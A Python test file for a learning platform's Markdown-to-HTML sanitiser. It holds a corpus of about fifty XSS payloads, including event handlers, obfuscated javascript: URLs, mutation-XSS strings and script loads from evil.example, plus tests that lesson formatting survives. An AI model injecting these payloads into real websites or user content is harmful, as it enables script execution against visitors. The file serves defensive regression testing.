"""Rendering: what a lesson keeps, and the XSS corpus that must not survive."""
from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import markdown

from lms.courses import format as fmt
from lms.courses import rendering
from lms.courses.models import ModuleRevision
from lms.extensions import db

from .helpers import module_text, tiny_png, write_course

# Each entry is one Markdown paragraph (blank lines between them).
XSS_CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "Teks <img src=\"x\" alt=\"y\" onerror=\"window.__pwned=1\"> di tengah.",
    "<svg onload=alert(1)></svg>",
    "<svg><script>window.__pwned=1</script></svg>",
    "<math href=\"javascript:alert(1)\">m</math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
    "<form action=\"javascript:alert(1)\"><button formaction=\"javascript:alert(1)\">Kirim</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<style>body{background:url(\"javascript:alert(1)\")}</style>",
    "<p style=\"background-image:url(javascript:alert(1))\">gaya</p>",
    "<a href=\"javascript:alert(1)\">klik</a>",
    "[klik](javascript:alert(1))",
    "[klik](JaVaScRiPt:alert(1))",
    "[klik](java&#115;cript:alert(1))",
    "[klik](&#106;avascript&#x3A;alert(1))",
    "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>",
    "<a href=\"java\nscript:alert(1)\">baris baru</a>",
    "<a href=\" &#14;  javascript:alert(1)\">kontrol</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">entitas</a>",
    "<a href=\"jAvAsCrIpT&colon;alert&lpar;1&rpar;\">titik dua</a>",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<a href=\"DATA:text/html,<script>alert(1)</script>\">data</a>",
    "[vb](vbscript:msgbox(1))",
    "<a href=\"VBScript:msgbox(1)\">vb</a>",
    "Paragraf dengan atribut\n{: onclick=\"alert(1)\" }",
    "## Judul berbahaya {: onmouseover=\"alert(1)\" #aman }",
    "[tautan](https://example.org){: onclick=\"alert(1)\" style=\"color:red\" }",
    "![Gambar](gambar.png){: onerror=\"alert(1)\" onload=\"window.__pwned=1\" }",
    "<div onclick=\"alert(1)\" class=\"admonition note evil\">kotak</div>",
    "<details open ontoggle=alert(1)><summary>s</summary></details>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<table background=\"javascript:alert(1)\"><tr><td onmouseover=\"alert(1)\">t</td></tr></table>",
    "<!-- <script>alert(1)</script> -->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>m</marquee>",
    "<textarea><script>alert(1)</script></textarea>",
    "<a href=\"//evil.example\" target=\"_top\" ping=\"https://evil.example\">ping</a>",
    # Last: unclosed raw-text elements swallow whatever follows them.
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]

PLACEHOLDER_TAGS = {"figure", "figcaption", "button", "span"}
PLACEHOLDER_ATTRIBUTES = {"class", "type", "data-video", "data-video-provider", "data-video-id", "data-video-title",
                          "aria-hidden", "rel", "href"}
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))


def assert_safe(body_html: str) -> None:
    lowered = body_html.lower()
    assert "<script" not in lowered
    assert not re.search(r"<[^>]*\son[a-z]+\s*=", lowered), "event handler attribute survived"
    assert not re.search(r"<[^>]*(javascript|vbscript|data):", lowered), "dangerous URL inside a tag"
    collector = _Collector()
    collector.feed(body_html)
    allowed_tags = rendering.TAGS | PLACEHOLDER_TAGS
    for tag, attrs in collector.tags:
        assert tag in allowed_tags, tag
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)
            allowed = rendering.ATTRIBUTES.get(tag, set()) | {"rel", "loading"} | (
                {"class"} if tag in rendering.ALLOWED_CLASSES or tag in PLACEHOLDER_TAGS | {"div", "p", "a"} else set())
            if tag in PLACEHOLDER_TAGS or (tag in ("div", "p", "a") and name in PLACEHOLDER_ATTRIBUTES):
                allowed |= PLACEHOLDER_ATTRIBUTES
            assert name in allowed, (tag, name)
            plain = re.sub(r"[\x00-\x20]", "", html.unescape(value or "")).lower()
            assert not plain.startswith(DANGEROUS_SCHEMES), (tag, name, value)
            if name == "style":
                assert re.fullmatch(r"text-align:(left|right|center)", plain), value
            if name == "class":
                assert set(html.unescape(value).split()) <= {"admonition", "admonition-title", *fmt.ADMONITION_KINDS, "table-wrap",
                                              "video", "video-frame", "video-play", "video-play-icon",
                                              "video-play-label", "video-note", "video-title", "video-length",
                                              "video-link"}, value


def hostile_module_text() -> str:
    return module_text("modul-berbahaya", title="Modul berbahaya", body="\n\n".join(XSS_CORPUS) + "\n")


def write_hostile_course(courses_dir):
    folder = write_course(courses_dir, "kursus-berbahaya", modules=[("modul-berbahaya", hostile_module_text())])
    (folder / "gambar.png").write_bytes(tiny_png())
    return folder


def test_corpus_is_big_and_reaches_the_sanitiser():
    assert len(XSS_CORPUS) >= 30
    raw = markdown.markdown("\n\n".join(XSS_CORPUS), extensions=rendering.EXTENSIONS)
    # Markdown alone passes the attacks through: the sanitiser is what stops them.
    assert "<script>" in raw and 'onmouseover="alert(1)"' in raw and 'onclick="alert(1)"' in raw


def test_xss_corpus_does_not_survive_import(app, courses_dir, do_import):
    write_hostile_course(courses_dir)
    do_import(courses_dir)
    with app.app_context():
        body_html = db.session.scalar(db.select(ModuleRevision.body_html))
    assert_safe(body_html)
    # What a lesson needs is still there.
    assert '<h2 id="judul-berbahaya"' in body_html or '<h2 id="aman"' in body_html
    assert '<a href="https://example.org" rel="noopener noreferrer nofollow">tautan</a>' in body_html
    assert re.search(r'<img alt="Gambar" src="/kursus/kursus-berbahaya/berkas/gambar.png\?v=[0-9a-f]{12}" loading="lazy">',
                     body_html)
    assert '<div class="admonition note">kotak</div>' in body_html


def test_each_payload_alone_is_sanitised():
    for payload in XSS_CORPUS:
        body = fmt.Body(markdown=payload, marker="m", images={"gambar.png": "0" * 64})
        assert_safe(rendering.render(body, "k", lambda c, f: f"/kursus/{c}/berkas/{f}").html)


def test_image_src_outside_the_course_is_dropped():
    clean = rendering.sanitise('<img src="https://evil.example/x.png" alt="a"><img src="ok.png" alt="b">',
                               {"ok.png": "/kursus/k/berkas/ok.png?v=1"})
    collector = _Collector()
    collector.feed(clean)
    assert [dict(attrs) for _tag, attrs in collector.tags] == [
        {"alt": "a", "loading": "lazy"}, {"src": "/kursus/k/berkas/ok.png?v=1", "alt": "b", "loading": "lazy"}]


def test_lesson_features_render(courses_dir):
    body = """
    Lompat ke [bagian akhir](#penutup-dan-ringkasan).

    ## Kecamatan di Kota Malang

    | Kecamatan | Catatan |
    |:----------|--------:|
    | Klojen    | pusat   |

    !!! warning "Perhatian"
        Cek lagi di aplikasi.

    ![Peta kecil](peta.png)

    [[video https://www.youtube.com/shorts/aqz-KE-bpKQ | Video <b>pendek</b> & "aman" | 1:05]]

    [[video https://www.tiktok.com/@sinau.malang/video/7301234567890123456 | Video TikTok]]

    3. tiga
    4. empat

    ```python
    print("<script>")
    ```

    ## Penutup dan ringkasan

    Kirim email ke [admin](mailto:admin@example.org).
    """
    folder = write_course(courses_dir, "kursus-uji", modules=[("contoh", module_text(body=body))])
    (folder / "peta.png").write_bytes(tiny_png())
    curriculum = fmt.parse(courses_dir)
    assert curriculum.problems == []
    module = curriculum.courses[0].modules[0]
    result = rendering.render(module.body, "kursus-uji", lambda c, f: f"/kursus/{c}/berkas/{f}")
    out = result.html
    assert_safe(out)
    assert [item["id"] for item in result.toc] == ["bagian-satu", "kecamatan-di-kota-malang", "penutup-dan-ringkasan"]
    assert '<div class="table-wrap"><table>' in out and '<th style="text-align:left">Kecamatan</th>' in out
    assert '<div class="admonition warning">\n<p class="admonition-title">Perhatian</p>' in out
    assert re.search(r'<img alt="Peta kecil" src="/kursus/kursus-uji/berkas/peta.png\?v=[0-9a-f]{12}" loading="lazy">', out)
    assert ('data-video-provider="youtube" data-video-id="aqz-KE-bpKQ" '
            'data-video-title="Video &lt;b&gt;pendek&lt;/b&gt; &amp; &quot;aman&quot;"') in out
    assert '<span class="video-length">(1:05)</span>' in out
    assert 'data-video-provider="tiktok" data-video-id="7301234567890123456"' in out
    assert 'href="https://www.tiktok.com/@sinau.malang/video/7301234567890123456"' in out
    assert module.body.marker not in out
    assert '<ol start="3">' in out
    assert "print(&quot;&lt;script&gt;&quot;)" in out or "print(\"&lt;script&gt;\")" in out
    assert '<a href="mailto:admin@example.org" rel="noopener noreferrer nofollow">admin</a>' in out
    assert rendering.check_anchors(module.body, result, module.display) == []
    # No third-party address is loaded by the markup: only links (href) point away.
    assert "youtube-nocookie" not in out and "<iframe" not in out


def test_indonesian_headings_get_unicode_ids():
    body = fmt.Body(markdown="## Ayo “Saring” sebelum *Sharing*!\n\n## Ayo “Saring” sebelum *Sharing*!\n", marker="m")
    result = rendering.render(body, "k", lambda c, f: f)
    assert [t["id"] for t in result.toc] == ["ayo-saring-sebelum-sharing", "ayo-saring-sebelum-sharing_1"]
    assert result.toc[0]["title"] == "Ayo “Saring” sebelum Sharing!"


def test_broken_anchor_is_reported_with_its_line(courses_dir, app):
    from lms.courses import importer

    write_course(courses_dir, "kursus-uji", modules=[("contoh", module_text(body="Lihat [ini](#tidak-ada).\n"))])
    with app.app_context():
        _curriculum, _rendered, problems = importer.prepare(courses_dir)
    assert [(p.line, p.message.split(":")[0]) for p in problems] == [(20, "link to #tidak-ada")]


def test_placeholder_texts_are_translated_by_plain_replacement():
    video = fmt.Video(1, "youtube", "aqz-KE-bpKQ", "Judul", None, "https://www.youtube.com/watch?v=aqz-KE-bpKQ")
    stored = "<p>Putar video</p>" + rendering.video_placeholder(video)
    english = {"Putar video": "Play video", "Tonton di YouTube": "Watch on YouTube"}
    out = rendering.localise_placeholders(stored, lambda text: english.get(text, text))
    assert '<span class="video-play-label">Play video</span>' in out and ">Watch on YouTube</a>" in out
    assert out.startswith("<p>Putar video</p>")  # lesson text itself is left alone
    assert rendering.localise_placeholders("<p>Putar video</p>", lambda t: "X") == "<p>Putar video</p>"
